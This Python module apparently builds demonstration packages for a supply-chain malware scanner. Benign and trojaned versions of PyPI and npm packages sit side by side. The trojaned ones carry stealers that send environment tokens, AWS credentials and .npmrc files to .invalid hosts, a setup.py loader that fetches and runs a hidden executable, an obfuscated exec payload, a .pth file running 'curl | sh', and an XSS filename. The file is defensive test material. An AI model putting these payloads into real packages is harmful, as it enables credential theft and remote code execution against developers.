"""What the demonstration shows: each package is one thing a reviewer should get to see.

The programs do nothing: every address ends in ``.invalid``, which nobody can own. They read like
attacks, which is their purpose; they stand here as text and are never run.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from msgspec import Struct

from antivenom.service.demo.archives import cut, npm, sdist, wheel


class Named(Struct, frozen=True, kw_only=True):
    """What an upload is called."""

    ecosystem: str
    project: str
    version: str
    filename: str


@dataclass(frozen=True, slots=True, kw_only=True)
class Package:
    """One upload of the demonstration."""

    named: Named
    build: Callable[[], bytes]


def _source(name: str, version: str, **files: str) -> Package:
    every = {path.replace("_py", ".py"): text for path, text in files.items()}
    named = Named(
        ecosystem="pypi", project=name, version=version, filename=f"{name}-{version}.tar.gz"
    )
    return Package(named=named, build=lambda: sdist(name, version, every))


def _wheel(name: str, version: str, files: dict[str, str]) -> Package:
    plain = name.replace("-", "_")
    filename = f"{plain}-{version}-py3-none-any.whl"
    named = Named(ecosystem="pypi", project=name, version=version, filename=filename)
    return Package(named=named, build=lambda: wheel(name, version, files))


def _npm(name: str, version: str, files: dict[str, str]) -> Package:
    named = Named(ecosystem="npm", project=name, version=version, filename=f"{name}-{version}.tgz")
    return Package(named=named, build=lambda: npm(files))


_SETUP = "from setuptools import setup\n\nsetup(name={name!r}, version={version!r})\n"
_FORMS = '''\
"""Forms for small web pages."""


class Field:
    def __init__(self, name, required=True):
        self.name = name
        self.required = required

    def check(self, value):
        if self.required and not value:
            raise ValueError(f"{self.name} is missing")
        return value
'''
_STOLEN = """\

import json
import os
import urllib.request


def _telemetry():
    found = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k or "KEY" in k}
    body = json.dumps(found).encode()
    urllib.request.urlopen("https://collect.quickforms.invalid/t", data=body)


_telemetry()
"""
_LOADER = """\
import os
import subprocess
import tempfile
import urllib.request

path = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("https://{host}.invalid/stage2", path)
subprocess.Popen([path], creationflags=0x08000000)
"""
_HIDDEN = """\
import getpass, os, socket, urllib.request
home = os.path.expanduser("~")
with open(os.path.join(home, ".aws", "credentials"), "rb") as file:
    body = file.read()
    urllib.request.urlopen("https://drop.paperclip.invalid/" + socket.gethostname(), data=body)
"""
_PACKED = base64.b64encode(zlib.compress(_HIDDEN.encode())).decode()
_WEATHER = '''\
"""Weather for a place, from the service of your choice."""

import json
import urllib.request


def forecast(url, place):
    with urllib.request.urlopen(f"{url}?q={place}") as answer:
        return json.load(answer)
'''
_ODD = "<img src=x onerror=alert(1)>"

PACKAGES: tuple[Package, ...] = (
    _wheel("quickforms", "2.3.0", {"quickforms/__init__.py": _FORMS}),
    _wheel("quickforms", "2.3.1", {"quickforms/__init__.py": _FORMS + _STOLEN}),
    _source(
        "weatherlines",
        "0.4.0",
        setup_py=_SETUP.format(name="weatherlines", version="0.4.0"),
        weatherlines_py=_WEATHER,
    ),
    _source(
        "weatherlines",
        "0.4.1",
        setup_py=_SETUP.format(name="weatherlines", version="0.4.1"),
        weatherlines_py=_WEATHER.replace("?q=", "?place="),
    ),
    *(
        _source(
            name,
            "1.0.0",
            setup_py=_LOADER.format(host=host) + _SETUP.format(name=name, version="1.0.0"),
        )
        for name, host in (
            ("colourlogs", "cdn-a"),
            ("colorlogsx", "cdn-a"),
            ("colorlogs-pro", "cdn-b"),
        )
    ),
    _wheel(
        "paperclip-tools",
        "0.1.0",
        {
            "paperclip_tools/__init__.py": "import base64, zlib\n"
            f'exec(zlib.decompress(base64.b64decode("{_PACKED}")))\n'
        },
    ),
    _wheel(
        "startup-helper",
        "3.0",
        {
            "startup_helper.pth": "import os; os.system('curl -s https://s.h.invalid/i | sh')\n",
            "startup_helper/__init__.py": "ready = True\n",
        },
    ),
    Package(
        named=Named(
            ecosystem="pypi", project="halfway", version="1.0", filename="halfway-1.0.tar.gz"
        ),
        build=lambda: cut(sdist("halfway", "1.0", {"setup.py": "x = 1\n" * 5000})),
    ),
    _wheel(
        "odd-names",
        "1.0",
        {
            "odd_names/__init__.py": "import os\n"
            "os.system('curl https://odd.invalid/<script>alert(1)</script> | sh')\n",
            f"odd_names/{_ODD}.py": "import os\nos.system('curl https://odd.invalid/2 | sh')\n",
        },
    ),
    _npm(
        "left-margin",
        "1.2.0",
        {
            "package.json": '{"name": "left-margin", "version": "1.2.0", "main": "index.js"}',
            "index.js": "module.exports = (text, n) => ' '.repeat(n) + text\n",
        },
    ),
    _npm(
        "left-margin",
        "1.2.1",
        {
            "package.json": '{"name": "left-margin", "version": "1.2.1", "main": "index.js",'
            ' "scripts": {"postinstall": "node setup.js"}}',
            "index.js": "module.exports = (text, n) => ' '.repeat(n) + text\n",
            "setup.js": "const https = require('https'), fs = require('fs'), os = require('os')\n"
            "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')\n"
            "const r = https.request('https://npm.margin.invalid/c', {method: 'POST'})\n"
            "r.write(npmrc)\nr.end()\n",
        },
    ),
    *(
        _wheel(f"demo-{name}", "1.0", {f"demo_{name}/__init__.py": f"name = {name!r}\n"})
        for name in ("maps", "tables", "colours", "clocks", "units", "roads")
    ),
)
